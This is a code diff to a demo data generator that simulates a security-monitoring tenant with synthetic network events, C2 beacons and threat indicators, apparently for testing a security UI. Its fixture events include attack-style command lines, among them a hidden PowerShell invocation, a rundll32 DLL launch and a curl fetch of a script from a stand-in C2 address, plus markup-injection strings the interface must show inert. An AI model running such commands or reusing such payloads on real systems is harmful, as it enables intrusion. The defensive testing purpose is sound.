@@ -40,10 +40,20 @@ export const DEMO_BENIGN_IPS = {
 export const DEMO_RARE_IPS = { scanner: '203.0.113.80', exfiltration: '192.0.2.147' } as const;
 /** An IPv6 destination a few machines used. */
 export const DEMO_IPV6_IP = '2001:db8:85a3::8a2e:370:7334';
+/**
+ * The machine view's walk: a second-stage host that only the holder machine talked to (so it comes first, rarest, in
+ * that machine's network activity), and a fallback C2 host four of the C2 machines talked to.
+ */
+export const DEMO_STAGE2_IP = '198.51.100.161';
+export const DEMO_C2_FALLBACK_IP = '203.0.113.219';
+/** With `scale.busyRemotes`, this internet-facing server accepts connections from that many distinct addresses. */
+export const DEMO_BUSY_MACHINE_NAME = 'web-prd-03.corp.contoso.com';
 /** A valid address that appears nowhere in the story. */
 export const DEMO_UNSEEN_IP = '192.0.2.200';
 export const DEMO_DC_IP = '10.20.0.10';
 export const DEMO_EGRESS_IP = '192.0.2.10';
+/** The edge proxy that holds DEMO_EGRESS_IP on its outer network card (a LocalIP in its network events). */
+export const DEMO_EDGE_NAME = 'web-lnx-01.corp.contoso.com';
 
 /** Markup, markdown, command links and other text every surface must show inert. */
 export const HOSTILE_STRINGS = {
@@ -174,11 +184,35 @@ export interface StoryAlert {
   localIp: string;
 }
 
+/** An indicator the demo tenant already has when a session starts (the simulator copies them into its own state). */
+export interface StoryIndicator {
+  id: string;
+  indicatorValue: string;
+  indicatorType: 'IpAddress' | 'FileSha256';
+  action: 'Allowed' | 'Audit' | 'Block';
+  title: string;
+  description: string;
+  severity: 'Informational' | 'Low' | 'Medium' | 'High';
+  generateAlert: boolean;
+  recommendedActions: string | null;
+  /** Epoch ms; null: never expires. */
+  expirationTime: number | null;
+  creationTime: number;
+  createdBy: string;
+  sourceType: 'User' | 'AadApp';
+  rbacGroupNames: string[];
+}
+
+/** The indicators of the story: a known-good allow, an audit on the scanner, and a file block (not an IP). */
+export const DEMO_INDICATOR_IPS = { allowed: DEMO_BENIGN_IPS.windowsUpdate, audited: DEMO_RARE_IPS.scanner } as const;
+
 export interface StoryScale {
   /** Total network events with DEMO_C2_IP (default ~65); extra ones go to the holder machine's beacons. */
   c2Events?: number;
   /** Multiplier of the background traffic per machine and day (default 1). */
   backgroundTraffic?: number;
+  /** Distinct remote addresses (198.18.0.0/15) that connect to DEMO_BUSY_MACHINE_NAME over the last days (default none). */
+  busyRemotes?: number;
 }
 
 export interface StoryOptions {
@@ -209,6 +243,8 @@ export interface DemoStory {
   networkInfoByIp: Map<string, StoryRow[]>;
   /** Alerts whose evidence names the key. */
   alertsByIp: Map<string, StoryAlert[]>;
+  /** Indicators the tenant starts with. */
+  indicators: StoryIndicator[];
 }
 
 interface MachineSpec {
@@ -350,6 +386,9 @@ export function buildDemoStory(options: StoryOptions): DemoStory {
     const start = activeFrom(m);
     if (spec.staticIp) {
       book.add({ machineId: m.id, ip: spec.staticIp, from: start, to: Infinity });
+      // The edge proxy's outer network card: the organisation's public address (after its internal one, which
+      // stays the address its ordinary events come from).
+      if (spec.name === DEMO_EDGE_NAME) book.add({ machineId: m.id, ip: DEMO_EGRESS_IP, from: start, to: Infinity });
       continue;
     }
     const pool = m.kind === 'mac' ? MAC_POOL : WORKSTATION_POOL;
@@ -395,7 +434,8 @@ export function buildDemoStory(options: StoryOptions): DemoStory {
       const step = lease.ip === DEMO_INTERNAL_IP ? 15 * MINUTE : DAY;
       const addresses = leaseAddresses(m, lease.ip);
       for (let t = Math.max(lease.from, historyStart); t < end; t += step) {
-        const jitter = lease.ip === DEMO_INTERNAL_IP ? 0 : rng.int(0, 59) * MINUTE;
+        // (No draw for the edge's public address, added later: the rest of the story stays as it was.)
+        const jitter = lease.ip === DEMO_INTERNAL_IP || lease.ip === DEMO_EGRESS_IP ? 0 : rng.int(0, 59) * MINUTE;
         const row = networkInfoRow(m, lease.ip, addresses, Math.min(t + jitter, end - 1000), reportId++);
         networkInfo.push(row);
         for (const ip of addresses.list) pushTo(networkInfoByIp, ip, row);
@@ -518,6 +558,55 @@ export function buildDemoStory(options: StoryOptions): DemoStory {
         RemoteIP: DEMO_IPV6_IP, RemotePort: 443, RemoteUrl: 'ipv6.fabrikam-cdn.example',
         LocalIP: m.globalIpv6, LocalIPType: 'Public', RemoteIPType: 'Public',
       }, browserProcess(m, rng));
+    }
+  }
+  // The organisation's own public address: the edge proxy holds DEMO_EGRESS_IP on its outer network card and accepts
+  // connections there, so Defender records that address as a LocalIP of one machine and never as a RemoteIP. A
+  // generator of its own keeps every other part of the story as it was.
+  const edge = byName(DEMO_EDGE_NAME);
+  const edgeRng = new SeededRandom(seed ^ 0x0e6e55);
+  for (let d = 0; d < 14; d++) {
+    for (let k = 0; k < 3; k++) {
+      const t = anchor - (d + 1) * DAY + edgeRng.int(0, DAY / 1000 - 1) * 1000;
+      const client = `198.51.100.${245 + edgeRng.int(0, 4)}`; // addresses no sample mentions
+      events.push(networkEventRow(edge, t, DEMO_EGRESS_IP, edgeRng, { ...inbound, RemoteIP: client, RemotePort: edgeRng.int(40000, 60000), LocalPort: 443, InitiatingProcessFileName: 'nginx', LocalIPType: 'Public' }, undefined, reportId++));
+    }
+  }
+  // The machine view's walk. A generator of its own, so the rest of the story stays what it was for a seed.
+  const walk = new SeededRandom(seed ^ 0x5a17);
+  const emitWalk = (m: StoryMachine, t: number, e: EventSpec): void => {
+    events.push(networkEventRow(m, t, e.LocalIP ?? ipAt(m, t), walk, e, undefined, reportId++));
+  };
+  const stage2Start = anchor - 2 * DAY + 5 * HOUR;
+  for (let i = 0; i < 3; i++) {
+    emitWalk(holder, stage2Start + i * 17 * MINUTE + walk.int(0, 59) * 1000, {
+      RemoteIP: DEMO_STAGE2_IP, RemotePort: 443, RemoteUrl: 'update.contoso-sync.example',
+      InitiatingProcessFileName: 'rundll32.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\rundll32.exe',
+      InitiatingProcessCommandLine: 'rundll32.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.dll,#2', InitiatingProcessAccountName: 'jdoe',
+    });
+  }
+  const fallback: [StoryMachine, number, ProcessSpec][] = [
+    [holder, 4, { InitiatingProcessFileName: 'rundll32.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\rundll32.exe', InitiatingProcessCommandLine: 'rundll32.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.dll,#1', InitiatingProcessAccountName: 'jdoe' }],
+    [hostile[0], 3, { InitiatingProcessFileName: 'powershell.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe', InitiatingProcessCommandLine: `powershell.exe -w hidden -c "${HOSTILE_STRINGS.script}"`, InitiatingProcessAccountName: HOSTILE_STRINGS.img }],
+    [hostile[1], 5, { InitiatingProcessFileName: `${HOSTILE_STRINGS.bold}.exe`, InitiatingProcessFolderPath: `c:\\users\\public\\${HOSTILE_STRINGS.commandLink}.exe`, InitiatingProcessCommandLine: `"${HOSTILE_STRINGS.bold}.exe" ${HOSTILE_STRINGS.backticks}`, InitiatingProcessAccountName: 'lchen' }],
+    [linuxC2, 8, { InitiatingProcessFileName: 'curl', InitiatingProcessFolderPath: '/usr/bin/curl', InitiatingProcessCommandLine: `curl -s https://${DEMO_C2_FALLBACK_IP}/y.sh`, InitiatingProcessAccountName: 'deploy' }],
+  ];
+  for (const [m, daysAgo, process] of fallback) {
+    const start = anchor - daysAgo * DAY + walk.int(1, 6) * HOUR;
+    for (let i = 0; i < 2; i++) emitWalk(m, start + i * walk.int(5, 15) * MINUTE, { RemoteIP: DEMO_C2_FALLBACK_IP, RemotePort: 8443, RemoteUrl: 'relay.contoso-sync.example', ...process });
+  }
+  // Benchmark scale: an internet-facing server accepting connections from many distinct addresses, a tenth of which
+  // also reached another web server (so their prevalence is 2).
+  const busyRemotes = options.scale?.busyRemotes ?? 0;
+  if (busyRemotes > 0) {
+    const busy = byName(DEMO_BUSY_MACHINE_NAME);
+    const other = byName('web-prd-01.corp.contoso.com');
+    const from = anchor - 6 * DAY;
+    for (let i = 0; i < busyRemotes; i++) {
+      const ip = `198.${18 + (i >> 16)}.${(i >> 8) & 255}.${i & 255}`;
+      const inbound = { ActionType: 'InboundConnectionAccepted', RemoteIP: ip, RemotePort: walk.int(1024, 65535), LocalPort: 443, InitiatingProcessFileName: 'System', InitiatingProcessFolderPath: '', InitiatingProcessCommandLine: '', InitiatingProcessAccountName: 'system' };
+      for (let k = walk.int(1, 3); k > 0; k--) emitWalk(busy, from + walk.int(0, 6 * 24 * 3600 - 120) * 1000, inbound);
+      if (i % 10 === 0) emitWalk(other, from + walk.int(0, 6 * 24 * 3600 - 120) * 1000, inbound);
     }
   }
   events.sort(byTimestamp);
@@ -657,7 +746,62 @@ export function buildDemoStory(options: StoryOptions): DemoStory {
     eventsByIp: indexEvents(events),
     networkInfoByIp,
     alertsByIp: indexAlerts(alerts),
+    indicators: storyIndicators(anchor),
   };
+}
+
+function storyIndicators(anchor: number): StoryIndicator[] {
+  return [
+    {
+      id: '5101',
+      indicatorValue: DEMO_INDICATOR_IPS.allowed,
+      indicatorType: 'IpAddress',
+      action: 'Allowed',
+      title: 'Windows Update delivery',
+      description: 'Known-good Microsoft update endpoint: keep it reachable from every device.',
+      severity: 'Informational',
+      generateAlert: false,
+      recommendedActions: null,
+      expirationTime: null,
+      creationTime: anchor - 120 * DAY,
+      createdBy: 'soc-lead@contoso.com',
+      sourceType: 'User',
+      rbacGroupNames: [],
+    },
+    {
+      id: '5102',
+      indicatorValue: DEMO_INDICATOR_IPS.audited,
+      indicatorType: 'IpAddress',
+      action: 'Audit',
+      title: 'Internet scanner probing web-prd-01',
+      description: 'Seen probing several services on the web servers; watched while the incident is open.',
+      severity: 'Low',
+      generateAlert: true,
+      // Data from the tenant is shown as text everywhere: this must never become a link.
+      recommendedActions: `Check the web server logs; ${HOSTILE_STRINGS.commandLink}`,
+      expirationTime: Math.floor((anchor + 20 * DAY) / MINUTE) * MINUTE,
+      creationTime: anchor - 4 * DAY + 3 * HOUR,
+      createdBy: 'jdoe@contoso.com',
+      sourceType: 'User',
+      rbacGroupNames: ['Datacenter-Servers'],
+    },
+    {
+      id: '5103',
+      indicatorValue: '4d2f5a8c1e9b7d3f6a0c2e4b8d1f3a5c7e9b0d2f4a6c8e1b3d5f7a9c0e2b4d6f',
+      indicatorType: 'FileSha256',
+      action: 'Block',
+      title: 'Ransomware loader (incident 48213)',
+      description: 'Loader dropped by the phishing campaign.',
+      severity: 'High',
+      generateAlert: true,
+      recommendedActions: 'Isolate the device and collect an investigation package.',
+      expirationTime: null,
+      creationTime: anchor - 30 * DAY,
+      createdBy: 'ir-automation',
+      sourceType: 'AadApp',
+      rbacGroupNames: [],
+    },
+  ];
 }
 
 function byTimestamp(a: StoryRow, b: StoryRow): number {
